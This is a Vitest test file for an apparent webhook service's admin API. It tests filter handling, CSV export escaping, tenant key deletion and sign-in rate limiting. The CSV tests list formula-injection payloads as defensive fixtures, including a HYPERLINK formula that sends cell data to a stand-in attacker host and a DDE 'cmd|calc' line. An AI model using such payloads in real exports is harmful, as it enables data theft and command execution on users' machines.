import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { csv } from '#lib/admin/csv.ts'
import type { Operation } from '#lib/admin/operation.ts'
import { operations } from '#lib/admin/operations.ts'
import type { AuditItem } from '#lib/admin/schemas-audit.ts'
import { admin as limits } from '#lib/admin/limits.ts'
import { minutes } from '#lib/primitives/clock.ts'
import { givenAdmin, type GivenAdmin } from '../../fakes/given-admin.ts'
import { startTables, type Tables } from '../../fakes/tables.ts'
import { virtualClock, type VirtualClock } from '../../fakes/virtual-clock.ts'

let tables: Tables
beforeAll(async () => {
  tables = await startTables()
})
afterAll(() => tables.close())

let clock: VirtualClock
let given: GivenAdmin
beforeEach(async () => {
  clock = virtualClock()
  given = await givenAdmin(tables, { clock })
})
const rows = async (): Promise<AuditItem[]> => {
  const response = await given.api('/api/audit?limit=100')
  return ((await response.json()) as { items: AuditItem[] }).items
}

describe('B084: a filter', () => {
  const found = async (query: Record<string, string>): Promise<unknown[]> => {
    const response = await given.api(`/api/events?${new URLSearchParams(query).toString()}`)
    return ((await response.json()) as { items: unknown[] }).items
  }

  test.each([String.raw`^(\w+\s?)*$`, '(a+)+$', '.*', '[', 'invoice.p?id'])(
    'that looks like the pattern %s is a name like any other',
    async (pattern) => {
      await given.seed({ key: 'a', type: 'invoice.paid' })
      await given.seed({ key: 'b', type: `${'a'.repeat(40)}!` })
      await given.seed({ key: 'c', type: pattern })
      expect(await found({ type: pattern })).toMatchObject([{ type: pattern }])
      expect(await found({ tenant: pattern })).toEqual([])
    },
  )

  test('of more than 256 characters is refused', async () => {
    for (const name of ['type', 'tenant', 'provider']) {
      const status = async (length: number): Promise<number> =>
        (await given.api(`/api/events?${name}=${'x'.repeat(length)}`)).status
      expect([await status(256), await status(257), await status(10_240)]).toEqual([200, 400, 400])
    }
    expect((await given.api(`/api/dead-letters?reason=${'x'.repeat(257)}`)).status).toBe(400)
    expect((await given.api(`/api/audit?actor=${'x'.repeat(301)}`)).status).toBe(400)
  })
})

describe('B088: events as CSV', () => {
  const lines = async (query = ''): Promise<string[]> => {
    const response = await given.api(`/api/exports/events${query}`)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present')
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="events.csv"')
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    return (await response.text()).split('\r\n')
  }

  test('hold the same as the list', async () => {
    const id = await given.seed({ key: 'in_1', tenant: 'acme' })
    const [header = '', row = '', end] = await lines()
    expect(header.startsWith('"id","tenant","provider","type","status"')).toBe(true)
    expect(row).toContain(`"${id}","acme","stripe","invoice.paid","done","1","webhook","in_1"`)
    expect(end).toBe('')
  })

  test.each([
    '=HYPERLINK("https://evil.example?"&A1,"Error")',
    '+1+cmd|calc!A0',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\uff1d1+1',
  ])('run nothing of what a sender wrote: %j', async (type) => {
    await given.seed({ key: 'k', type })
    const [, ...found] = await lines()
    expect(found.join('\r\n')).toContain(`,"'${type.replaceAll('"', '""')}",`)
  })

  test('can not be broken out of their cells', () =>
    expect(csv(['a', 'b'], [{ a: 'x","=1', b: 'y\r\n"=2"' }])).toBe(
      '"a","b"\r\n"x"",""=1","y\r\n""=2"""\r\n',
    ))

  test('leave numbers as they are, and nothing for what is not there', () =>
    expect(csv(['a', 'b'], [{ a: -1, b: null }])).toBe('"a","b"\r\n"-1",""\r\n'))

  test('go on by the cursor', async () => {
    for (const each of ['a', 'b', 'c']) await given.seed({ key: each })
    const response = await given.api('/api/exports/events?limit=2')
    const cursor = response.headers.get('sluice-cursor') ?? ''
    expect((await response.text()).split('\r\n')).toHaveLength(4)
    expect(await lines(`?limit=2&cursor=${cursor}`)).toHaveLength(3)
    expect((await given.api('/api/exports/events?cursor=x')).status).toBe(400)
  })

  test('leave an audit row: who took whose along', async () => {
    await given.seed({ key: 'a', tenant: 'acme' })
    await lines()
    expect(await rows()).toMatchObject([{ operation: 'exportEvents', outcome: 'done', tenants: ['acme'] }])
  })
})

describe('B090: to delete what is a tenant’s', () => {
  const shred = async (): Promise<unknown[]> => {
    const response = await given.request('/api/tenants/acme/keys', 'DELETE')
    return [response.status, await response.json()]
  }

  test('twice is to delete it once', async () => {
    await given.keysOf('acme')
    expect(await shred()).toEqual([202, { tenant: 'acme', status: 'scheduled' }])
    expect(await shred()).toEqual([202, { tenant: 'acme', status: 'scheduled' }])
    expect((await rows()).map(({ operation, tenants }) => [operation, tenants])).toEqual([
      ['shredTenantKeys', ['acme']],
      ['shredTenantKeys', ['acme']],
    ])
  })

  test('of a connection twice answers alike', async () => {
    const body = { tenant: 'acme', provider: 'leaflink', credentials: { key: 'k-1234567890123456' } }
    const { id } = (await (await given.api('/api/connections', body)).json()) as { id: string }
    const gone = async (): Promise<unknown[]> => {
      const response = await given.request(`/api/connections/${id}?tenant=acme`, 'DELETE')
      return [response.status, await response.json()]
    }
    expect(await gone()).toEqual([202, { id, status: 'deleted' }])
    expect(await gone()).toEqual([202, { id, status: 'deleted' }])
  })

  test('leaves events on their way to their handlers: they are sealed by no key of the tenant', async () => {
    await given.keysOf('acme')
    const id = await given.seed({ key: 'k', tenant: 'acme', status: 'claimed' })
    await shred()
    expect(await (await given.api(`/api/events/${id}`)).json()).toMatchObject({ status: 'claimed' })
  })
})

describe('B091: what two could edit at once', () => {
  test('is no config: it is deployed, and no route writes it', () => {
    const all: readonly Operation[] = Object.values(operations)
    expect(all.filter(({ path }) => /config|endpoint|settings/i.test(path))).toEqual([])
    expect(new Set(all.map(({ method }) => method))).toEqual(new Set(['get', 'post', 'delete']))
  })
})

describe('B092: a hundred tries to sign in', () => {
  const visit = async (from: string, path = '/console/login?link=guessed'): Promise<number> =>
    (await given.app.request(path, { headers: { 'x-forwarded-for': from } })).status

  test('in a second are refused from some point on, with one audit row', async () => {
    const statuses: number[] = []
    for (let tries = 0; tries < 100; tries += 1) statuses.push(await visit('203.0.113.9'))
    const allowed = limits.signInsPerMinute
    expect(statuses).toEqual([...Array(allowed).fill(400), ...Array(100 - allowed).fill(429)])
    expect(await rows()).toMatchObject([
      {
        operation: 'signIn',
        via: 'console',
        actor: 'login-link',
        role: null,
        outcome: 'refused',
        status: 429,
        target: { who: '203.0.113.9' },
      },
    ])
  })

  test('are counted over all instances, and told when to come back', async () => {
    const second = await givenAdmin(tables, {
      clock,
      changes: { signIns: given.deps.signIns, audit: given.deps.audit },
    })
    for (let tries = 0; tries < limits.signInsPerMinute; tries += 1) await visit('203.0.113.9')
    await clock.advance(1_000)
    const headers = { 'x-forwarded-for': '203.0.113.9' }
    const response = await second.app.request('/console/login?link=guessed', { headers })
    expect(response.status).toBe(429)
    const wait = Number(response.headers.get('retry-after'))
    expect(wait).toBeGreaterThan(0)
    expect(wait).toBeLessThanOrEqual(60)
    await visit('203.0.113.9')
    expect(await rows()).toHaveLength(1)
  })

  test('lock nobody else out, and nobody for longer than the minute', async () => {
    for (let tries = 0; tries <= limits.signInsPerMinute; tries += 1) await visit('203.0.113.9')
    expect(await visit('203.0.113.9')).toBe(429)
    expect(await visit('198.51.100.7')).toBe(400)
    await clock.advance(minutes(1))
    expect(await visit('203.0.113.9')).toBe(400)
  })

  test('count by what the gateway wrote, not by what the sender did', async () => {
    for (let tries = 0; tries <= limits.signInsPerMinute; tries += 1)
      await visit(`10.0.0.${tries}, 203.0.113.9`)
    expect(await visit('10.0.0.99, 203.0.113.9')).toBe(429)
  })

  test('count by the network of IPv6, of which one customer has every address', async () => {
    for (let tries = 0; tries <= limits.signInsPerMinute; tries += 1) await visit(`2001:db8:1:2::${tries}`)
    expect(await visit('2001:db8:1:2:ffff::1')).toBe(429)
    expect(await visit('2001:db8:1:3::1')).toBe(400)
    for (let tries = 0; tries <= limits.signInsPerMinute; tries += 1) await visit(`2001:db8::${tries}`)
    expect(await visit('2001:db8:0:0:1:2:3:4')).toBe(429)
  })

  test('a link that is good is refused too, and works a minute later', async () => {
    const { url } = (await (await given.api('/api/login-links', {})).json()) as { url: string }
    for (let tries = 0; tries <= limits.signInsPerMinute; tries += 1) await visit('203.0.113.9')
    expect(await visit('203.0.113.9', url)).toBe(429)
    await clock.advance(minutes(1))
    expect(await visit('203.0.113.9', url)).toBe(303)
  })

  test('links are not made faster either', async () => {
    const statuses = new Set<number>()
    for (let tries = 0; tries < limits.signInsPerMinute; tries += 1)
      statuses.add((await given.api('/api/login-links', {})).status)
    expect([...statuses]).toEqual([201])
    const late = await given.api('/api/login-links', {})
    expect([late.status, await late.json()]).toMatchObject([429, { code: 'too_many_requests' }])
    await given.api('/api/login-links', {})
    const refused = (await rows()).filter(({ status }) => status === 429)
    expect(refused).toMatchObject([
      { operation: 'createLoginLink', actor: 'admin-token', outcome: 'refused' },
    ])
  })
})
